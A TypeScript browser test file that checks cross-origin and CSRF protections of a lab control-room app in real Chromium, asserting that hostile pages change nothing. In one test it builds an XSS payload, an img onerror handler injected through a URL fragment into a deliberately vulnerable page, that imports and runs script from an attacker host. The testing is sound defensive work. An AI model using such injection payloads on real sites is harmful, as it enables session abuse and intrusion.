// No page of another origin changes anything in the control room, in a real Chromium: not at once, not by a click, and not
// by way of the page with the hole.
import type { LabState } from '@scale-out-lab/core/wire';
import { until } from '@scale-out-lab/launcher/testing/until';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Attacker, startAttacker } from '../support/browser/attacker.js';
import { useChromium } from '../support/browser/chromium.js';
import { type RunningLab, startLabForTest } from '../support/lab.js';
import { createPage } from '../support/page.js';

const openContext = useChromium();
let lab: RunningLab;
let attacker: Attacker;
let page: ReturnType<typeof createPage>;

beforeAll(async () => {
  lab = await startLabForTest({ INSTANCES: '2' });
  attacker = await startAttacker();
  page = createPage(lab.url);
}, 60_000);
afterAll(() => Promise.all([lab?.stop(), attacker?.stop()]));

/** All that a request to the control room could change. A slow answer is no change, so liveness is left out. */
async function readControlRoom() {
  const { instances, redis, busy } = (await page.ask<LabState>('GET', 'state')).body;
  const listening = await page.listen();
  await until(() => listening.heard.length > 0);
  const [snapshot] = listening.heard;
  await listening.cut();
  return {
    instances: instances.map(({ id, startedAt, keys }) => ({ id, startedAt, keys })),
    redis: redis?.isPersistent,
    busy,
    runs: (await page.ask<{ runs: unknown }>('GET', 'runs')).body.runs,
    incidents:
      snapshot?.name === 'snapshot'
        ? snapshot.data.incidents.filter(({ isAsked }) => isAsked)
        : 'no snapshot',
  };
}

/**
 * What the script at `address` says that it got, when it is opened and when somebody clicks, in the browser of a user of the
 * API who is still logged in afterwards.
 */
async function open(address: string, { clicks = false } = {}) {
  const browser = await openContext();
  const api = `${lab.url}/api/session-redis`;
  await browser.request.post(`${api}/login`, { data: { username: 'alice', password: 'demo' } });
  const changes: number[] = [];
  browser.on('response', (response) => {
    const isChange = response.url().startsWith(`${lab.url}/lab/`) && response.request().method() !== 'GET';
    if (isChange) changes.push(response.status());
  });
  const tab = await browser.newPage();
  await tab.goto(address);
  const loot = [...(await attacker.collect(1))];
  if (clicks) {
    // Windows that the first attack opened lie before it.
    await tab.bringToFront();
    await tab.getByRole('button', { name: 'A prize!' }).click();
    loot.push(...(await attacker.collect(1)));
  }
  expect((await browser.request.get(`${api}/me`)).status()).toBe(200);
  // They arrived, and were refused.
  expect(new Set(changes)).toEqual(new Set([403]));
  await browser.close();
  return loot.map(({ body }) => JSON.parse(body) as { when: string; outcomes: Record<string, string> });
}

describe.each([
  ['another site', 'otherSite'],
  ['another port of this machine', 'sameSite'],
] as const)('a page of %s', (_where, origin) => {
  it('changes nothing when it opens, and nothing at a click', { timeout: 60_000 }, async () => {
    const before = await readControlRoom();
    const target = encodeURIComponent(lab.url);
    const attacks = await open(`${attacker[origin]}/hostile?target=${target}`, { clicks: true });
    expect(attacks.map(({ when }) => when)).toEqual(['opened', 'clicked']);
    for (const { outcomes } of attacks) {
      expect(outcomes).toMatchObject({
        'a request': 'TypeError',
        'a request that asks for leave': 'TypeError',
        'a request with JSON': 'TypeError',
        'what the control room holds': 'TypeError',
      });
    }
    expect(await readControlRoom()).toEqual(before);
  });
});

describe('a link to the page with the hole', () => {
  // A hostile page would send a user there without a click.
  const greet = (base: string, script: string) => {
    const markup = `<img src="" onerror="${script}">`;
    const link = `${base}/storage/#greeting=${encodeURIComponent(markup)}`;
    return `${attacker.otherSite}/link?target=${encodeURIComponent(link)}`;
  };

  it.each(['url', 'storageUrl'] as const)(
    'at its %s runs a script that changes nothing in the control room',
    { timeout: 60_000 },
    async (base) => {
      const before = await readControlRoom();
      const script = `import('${attacker.otherSite}/hostile.js').then(({ attack }) => attack('${lab.url}', 'injected'))`;
      const [injected] = await open(greet(lab.cluster[base], script));
      expect(injected?.outcomes).toMatchObject({
        'a request to its own origin': '404',
        'a run at its own origin': '404',
        'a request that asks for leave': 'TypeError',
        'what the control room holds': 'TypeError',
      });
      expect(await readControlRoom()).toEqual(before);
    },
  );
});
